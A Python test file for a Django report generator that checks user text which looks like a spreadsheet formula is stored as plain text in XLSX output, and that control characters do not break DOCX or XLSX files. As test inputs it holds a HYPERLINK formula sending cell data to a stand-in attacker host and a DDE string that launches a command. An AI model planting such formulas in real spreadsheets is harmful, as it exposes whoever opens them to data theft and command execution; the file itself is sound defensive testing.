"""Text from users in the generated papers: formula-like text stays text in XLSX, and control
characters that got into the database (before input refused them) never break a DOCX or
XLSX: `tongket report` writes both."""

from __future__ import annotations

import io

from django.core.management import call_command
from docx import Document
from openpyxl import load_workbook

from tongket.meetings.models import Task
from tongket.papers.files import notice_file, report_file

from .conftest import TODAY

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")'
OVERDUE = "Gom bó, chỉnh trang cáp viễn thông trên các tuyến phố chính"


def _poison_overdue_task(text: str) -> None:
    # Straight into the table, as data stored before the services refused such text.
    assert Task.objects.filter(text=OVERDUE, completed_on__isnull=True).update(text=text) >= 1


def _all_cells(book):
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def test_report_xlsx_writes_user_text_that_looks_like_a_formula_as_text(year2017):
    _poison_overdue_task(FORMULA)
    paper = report_file(unit=year2017.department, year=2017, fmt="xlsx", today=TODAY)
    book = load_workbook(io.BytesIO(paper.data))
    assert not [c.coordinate for c in _all_cells(book) if c.data_type == "f"]
    cell = book["Quá hạn"]["A4"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (FORMULA, "s", True)


def test_notice_xlsx_writes_assignments_that_look_like_formulas_as_text(year2017):
    item = year2017.notice.items.order_by("order").first()
    type(item).objects.filter(pk=item.pk).update(text="+cmd|' /C calc'!A0")
    paper = notice_file(meeting=year2017.meeting, fmt="xlsx")
    book = load_workbook(io.BytesIO(paper.data))
    assert not [c.coordinate for c in _all_cells(book) if c.data_type == "f"]


def test_report_command_writes_docx_and_xlsx_despite_control_characters(year2017, tmp_path):
    _poison_overdue_task("Gom bó\x01 cáp\x1b[31m viễn thông\x0b trên tuyến phố")
    for fmt in ("docx", "xlsx"):
        out = tmp_path / f"r.{fmt}"
        call_command(
            "report", "--unit", "34.STTTT", "--year", "2017", "--today", "01/03/2018",
            "-o", str(out), stdout=io.StringIO(),
        )  # fmt: skip
        assert out.stat().st_size > 0
    text = "\n".join(p.text for p in Document(tmp_path / "r.docx").paragraphs)
    assert "Gom bó cáp[31m viễn thông trên tuyến phố" in text
    assert "\x01" not in text and "\x1b" not in text
    ws = load_workbook(tmp_path / "r.xlsx")["Quá hạn"]
    assert ws["A4"].value == "Gom bó cáp[31m viễn thông trên tuyến phố"
